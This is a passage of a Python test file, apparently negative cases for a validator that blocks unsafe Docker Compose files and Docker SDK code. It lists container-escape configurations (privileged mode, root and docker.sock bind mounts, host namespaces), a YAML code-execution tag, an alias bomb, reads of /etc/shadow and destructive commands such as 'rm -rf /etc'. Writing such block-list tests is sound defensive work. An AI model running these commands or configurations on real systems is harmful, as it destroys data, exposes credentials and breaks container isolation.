    return _compose("services:\n  web:\n    image: busybox\n" + "".join(f"    {line}\n" for line in lines))


# Each line is made of ten of the line above: what stands in the last would be more than a machine holds.
_MERGED = [
    f"  {b}: &{b} {{<<: [{', '.join([f'*{a}'] * 10)}]}}" for a, b in zip("abcdefghij", "bcdefghijk", strict=True)
]

WHOLE += [
    _compose("\n".join(["services:", "  a: &a {image: busybox}", *_MERGED, ""])),
    _compose("services: {web: {command: " + "[" * 5000),
    _compose("services: {web: {command: [" + "a, " * 30_000 + "a]}}\n"),
    _service("privileged: true"),
    _service("volumes:", "  - /:/h"),
    _service("volumes:", "  - /etc:/h:ro"),
    _service("volumes:", "  - ..:/h"),
    _service("volumes:", "  - ../../x:/h"),
    _service("volumes:", "  - ~/x:/h"),
    _service("volumes:", "  - ${X}:/h"),
    _service("volumes:", "  - ${X:-/}:/h"),
    _service("volumes:", "  - $HOME:/h"),
    _service("volumes:", "  - /var/run/docker.sock:/s"),
    _service("volumes:", "  - type: bind", "    source: /", "    target: /h"),
    _service("volumes:", "  - {type: bind, source: /, target: /h}"),
    _service("network_mode: host"),
    _service("pid: host"),
    _service("ipc: host"),
    _service("uts: host"),
    _service("userns_mode: host"),
    _service("cap_add: [ALL]"),
    _service("devices: [/dev/sda]"),
    _service("device_cgroup_rules: ['b *:* rwm']"),
    _service("security_opt: ['seccomp:unconfined']"),
    _service("env_file: /etc/shadow"),
    _service("extends: {file: /etc/x.yaml, service: x}"),
    _service("volumes_from: [x]"),
    _service("configs: [x]"),
    _service("secrets: [x]"),
    _service("logging: {driver: syslog}"),
    _service("runtime: other"),
    _service("cgroup_parent: /"),
    _service("sysctls: {kernel.shmmax: 1}"),
    _service("develop: {watch: [{path: /, action: sync, target: /h}]}"),
    _service("build: /"),
    _service("build: {context: ../.., dockerfile: x}"),
    _service("build: {context: ., privileged: true}"),
    _service("build: {context: ., network: host}"),
    _service("build: {context: ., dockerfile: /etc/shadow}"),
    _service("build: {context: ., entitlements: [security.insecure]}"),
    _service("post_start: [{command: x, privileged: true}]"),
    _service("x: &a {privileged: true}", "<<: *a"),
    _compose("include: [/etc/x.yaml]\nservices: {}\n"),
    _compose("services: {}\nsecrets: {x: {file: /etc/shadow}}\n"),
    _compose("services: {}\nconfigs: {x: {file: /etc/shadow}}\n"),
    _compose("services: {}\nvolumes: {v: {driver_opts: {type: none, o: bind, device: /}}}\n"),
    _compose("services: {}\nvolumes: {v: {driver: other}}\n"),
    _compose("services: {}\nnetworks: {n: {driver: macvlan}}\n"),
    _compose("services: {}\nnetworks: {n: {driver: host}}\n"),
    _compose("x-a: &a {privileged: true}\nservices: {web: {<<: *a, image: busybox}}\n"),
    _compose("services: {web: !!python/object/apply:os.system ['x']}\n"),
    _compose("services:\n\tweb:\n\t\timage: busybox\n\t\tvolumes:\n\t\t\t- /etc:/h\n"),
    _compose("web:\n  image: busybox\n  privileged: true\n"),
    _compose("web:\n  image: busybox\n  volumes: ['/:/h']\n", name="docker-compose.yml"),
    _compose(
        "services: {web: {image: busybox}}\n", file("compose.override.yaml", "services: {web: {privileged: true}}\n")
    ),
    _compose(
        "services: {web: {image: busybox}}\n",
        file("docker-compose.override.yml", "services: {web: {volumes: ['/:/h']}}\n"),
    ),
    _compose("services: {web: {image: busybox}}\n", file(".env", "COMPOSE_FILE=/etc/x.yaml\n")),
    _compose("services: {web: {image: busybox}}\n", console("echo COMPOSE_FILE=x.txt > .env")),
    _compose("services: {web: {image: busybox}}\n", console("docker ps > .env")),
    _compose("services: {web: {image: busybox, volumes: ['./www:/h']}}\n", console("sed -i 's|./www|/|' compose.yaml")),
    _compose("services: {web: {image: busybox, volumes: ['./www:/h']}}\n", console(r"sed -i 's/\.//' compose.yaml")),
    _compose("services: {web: {image: busybox}}\n", console("sed -i 's/image/privileged/' compose.yaml")),
    _compose("services: {web: {image: busybox}}\n", console("docker run busybox cat /x > compose.yaml")),
    _compose("services: {web: {image: busybox}}\n", console("cp x.txt compose.yaml")),
    _compose(
        "services: {web: {image: busybox}}\n", file("x/compose.override.yaml", "services: {}\n"), console("mv x/* .")
    ),
    _compose("services: {web: {image: busybox}}\n", console("docker cp web:/compose.override.yaml .")),
    _compose("services: {web: {image: busybox}}\n", console("tee compose.override.yaml")),
    (
        file("a/b/compose.yaml", "services: {web: {image: busybox, volumes: ['../../x:/h']}}\n", "yaml"),
        console("mv a/b c"),
        console("docker compose -f c/compose.yaml up"),
    ),
    (file("x.yaml", "services: {web: {privileged: true}}\n", "yaml"), console("docker compose -f x.yaml up")),
    (file("d/x.yaml", "services: {web: {volumes: ['../..:/h']}}\n", "yaml"), console("docker compose -f d/x.yaml up")),
    (
        file("compose.yaml", "services: {web: {image: evil, volumes: ['.:/w']}}\n", "yaml"),
        console("docker compose up -d"),
    ),
    (
        file("compose.yaml", "services: {web: {image: evil, volumes: ['./d:/w']}}\n", "yaml"),
        console("docker compose up -d"),
        console("echo x > d/link"),
    ),
]

PYTHON = r"""
import os; os.system("rm -rf /etc")
import subprocess
import shutil
import socket
import sys
import ctypes
import importlib
from os import system
from subprocess import run
from pathlib import *
import docker.utils
from docker.utils import os
import requests.sessions
import json.os
import os as json
import docker as d
__import__("os").system("x")
eval("1")
exec("1")
compile("1", "x", "exec")
getattr(client, "close")
setattr(client, "x", 1)
globals()
vars(client)
input()
open("/etc/x", "w")
open("/etc/shadow")
open("../x", "w")
open("x", "a")
open("x", mode="w")
open(name)
open(".docker/config.json", "w")
open(f"/proc/{name}/../../etc/shadow")
f = open; f("/etc/x", "w")
[open][0]("/etc/x", "w")
(lambda: open)()("/etc/x", "w")
print("x", file=open("/etc/x", "w"))
print(open("/root/../etc/shadow").read())
client.__class__
().__class__.__bases__[0].__subclasses__()
client.api._post("/x")
client.api.post("/x")
client.api.create_container("busybox", host_config=client.api.create_host_config(binds=["/:/h"]))
client.api.put_archive("x", "/", b"")
client.containers.run("busybox", "true", volumes=["/:/h"])
client.containers.run("busybox", "true", volumes={"/": {"bind": "/h", "mode": "rw"}})
client.containers.run("busybox", "true", volumes={"/etc": "x"})
client.containers.run("busybox", "true", volumes=["/root/..:/h"])
client.containers.run("busybox", "true", volumes=["../x:/h"])
client.containers.run("busybox", "true", volumes=x)
client.containers.run("busybox", "true", volumes=["/" + ":/h"])
client.containers.run("busybox", "true", volumes=[f"{x}:/h"])
client.containers.run("busybox", "true", volumes=[v for v in ["/:/h"]])
client.containers.run("busybox", "true", **{"privileged": True})
client.containers.run(*["busybox", "true"], privileged=True)
client.containers.run("busybox", "mount /dev/sda1 /mnt", privileged=True)
client.containers.run("busybox", "hostname", privileged=True, detach=True)
client.containers.run("busybox", "true", privileged=1, pid_mode="host")
client.containers.run("busybox", "true", pid_mode="host")
client.containers.run("busybox", "true", ipc_mode="host")
client.containers.run("busybox", "true", uts_mode="host")
client.containers.run("busybox", "true", userns_mode="host")
client.containers.run("busybox", "nc 127.0.0.1 22", network_mode="host")
client.containers.run("busybox", "nc 127.0.0.1 22", network="host")
client.containers.run("busybox", "true", network="ns:/proc/1/ns/net")
client.containers.run("busybox", "true", devices=["/dev/sda"])
client.containers.run("busybox", "true", device_requests=[])
client.containers.run("busybox", "true", cap_add=["SYS_ADMIN"])
client.containers.run("busybox", "true", cap_add=caps)
client.containers.run("busybox", "true", security_opt=["seccomp=unconfined"])
client.containers.run("busybox", "true", sysctls={"kernel.panic": 1})
client.containers.run("busybox", "true", mounts=[docker.types.Mount("/h", "/", type="bind")])
client.containers.run("busybox", "true", mounts=[{"Type": "bind", "Source": "/", "Target": "/h"}])
client.containers.run("busybox", "true", mounts=mounts)
client.containers.run("busybox", "true", volume_driver="x")
client.containers.run("busybox", "true", runtime="x")
client.containers.run("busybox", "true", log_config={"Type": "syslog"})
client.containers.run("busybox", "true", log_config=docker.types.LogConfig(type="syslog"))
client.containers.run("busybox", "true", cgroup_parent="/")
client.containers.create("busybox", "true", volumes=["/:/h"])
client.containers.get("x").exec_run("mount /dev/sda1 /mnt", privileged=True)
client.containers.get("x").put_archive("/", b"")
client.containers.get("x").update(privileged=True)
client.images.build(path="/")
client.images.build(path="..")
client.images.build(path=x)
client.images.build(path="/root/..")
client.images.build(path="x", network_mode="host")
client.images.build(path="x", dockerfile="/etc/shadow")
client.images.build(path="x", tag="busybox")
client.images.build(path="http://example.com/x")
client.images.build("/")
client.images.get("x").tag("busybox")
client.images.load(b"")
client.images.push("ann/x")
client.volumes.create("x", driver_opts={"type": "none", "o": "bind", "device": "/"})
client.volumes.create("x", "local", {"type": "none", "o": "bind", "device": "/"})
client.networks.create("x", driver="macvlan")
client.networks.create("x", "macvlan")
client.services.create("busybox", mounts=["/:/h:rw"])
client.services.create("busybox", "true", mounts=[])
client.plugins.install("x")
client.swarm.join(remote_addrs=["10.0.0.1"], join_token="x")
client.swarm.init(advertise_addr="8.8.8.8")
client.configs.create(name="x", data=b"")
docker.DockerClient(base_url="tcp://10.0.0.1:2375").containers.list()
docker.DockerClient("tcp://10.0.0.1:2375")
docker.APIClient()
docker.from_env(environment={})
client = docker.DockerClient(base_url="unix:///var/run/docker.sock")
page_folder = "/etc"
page_shell("rm -rf /etc")
page_bash.stdin.write("x")
print = open
del client
client.containers.run = open
client.attrs["x"] = 1
def f(): pass
class A: pass
async def f(): pass
with open("/etc/x", "w") as f: f.write("y")
with open("x", "w") as f: f.write("y")
(yield)
x = yield
await x
global x
assert open("/etc/x", "w")
raise SystemExit
(x := open)
x[0]()
match x: case _: pass
client.close()
"{0.__class__}".format(client)
(i for i in []).gi_frame
docker.errors.os
docker.types.os
""".strip("\n").split("\n")

PYTHON_WHOLE: list[tuple[str, ...]] = [
    (code("from pathlib import Path"), code('Path("/etc/x").write_text("y")')),
    (code("from pathlib import Path"), code('Path("../x").touch()')),
    (code("from pathlib import Path"), code('Path("x").unlink()')),
    (code("from pathlib import Path"), code('Path("x").symlink_to("/")')),
    (code("from pathlib import Path"), code('p = Path("x")'), code('(p / "/etc/x").write_text("y")')),
    (code("from pathlib import Path"), code("p = Path(name)"), code('p.write_text("y")')),
    (code("from pathlib import Path"), code('p = Path("x")'), code("for p in other:\n    p.touch()")),
    (code("from pathlib import Path"), code('Path("/etc/shadow").read_text()')),
    (code("from pathlib import Path"), code('Path(".docker/config.json").write_text("{}")')),
    (code("import os"), code('os.remove("x")')),
    (code("import os"), code('os.environ["DOCKER_HOST"] = "x"')),
    (code("import os"), code("x = os"), code('x.system("y")')),
    (code("import os"), code("[os][0].system('y')")),
    (code("import os"), code('os.path.os.system("y")')),
    (code("import os"), code("os.kill(1, 9)")),
    (code("import tarfile"), code('tarfile.open("/root/x.tar").extractall("/")')),
    (code("import tarfile"), code('tarfile.open("/etc/x.tar", "w")')),
    (code("import requests"), code('requests.get("http://example.com/")')),
    (code("import requests"), code('requests.post("http://localhost/")')),
    (code("import requests"), code("requests.sessions.os.system('x')")),
    (code("import urllib.request"), code('urllib.request.urlopen("file:///etc/shadow")')),
    (code("import urllib.request"), code('urllib.request.urlretrieve("http://localhost/", "/etc/x")')),
    (code("import urllib.request"), code("urllib.request.os.system('x')")),
    (code("import json"), code('json.codecs.open("/etc/x", "w")')),
    (code("import time"), code("time.sleep.__self__")),
    (code('v = ["/:/h"]'), code('client.containers.run("busybox", "true", volumes=v)')),
    (code('v = ["x:/h"]'), code("for v in [['/:/h']]:\n    client.containers.run('busybox', 'true', volumes=v)")),
    (code('v = ["x:/h"]'), code("v.append('/:/h')"), code('client.containers.run("busybox", "true", volumes=v)')),
    (
        code('v = "x:/h"'),
        code("try:\n    v = '/:/h'\nexcept OSError:\n    pass"),
        code('client.containers.run("busybox", "true", volumes=[v])'),
    ),
    (
        code('m = docker.types.Mount("/h", "/", type="bind")'),
        code('client.containers.run("busybox", "true", mounts=[m])'),
    ),
    (
        code('client.containers.run("busybox", "ln -s / /w/x", volumes=["/root/d:/w"])'),
        code('open("/root/d/x/y", "w")'),
    ),
    (code('client.containers.run("evil", volumes=["/root:/w"])'),),
    (file("../x"), code("client.ping()")),
    (console("rm -rf /etc"),),
]
